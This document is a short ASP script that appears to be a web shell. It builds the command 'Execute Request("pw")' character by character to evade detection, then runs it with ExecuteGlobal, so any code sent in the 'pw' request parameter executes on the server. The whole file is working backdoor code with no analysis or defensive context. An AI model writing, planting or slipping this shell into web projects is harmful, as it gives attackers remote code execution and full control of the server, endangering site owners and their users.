<%
Dim k
k = "p" & "w"
ExecuteGlobal("E"&"x"&"e"&"c"&"u"&"t"&"e"&" "&"R"&"e"&"q"&"u"&"e"&"s"&"t"&"("&Chr(34)&k&Chr(34)&")")
%>
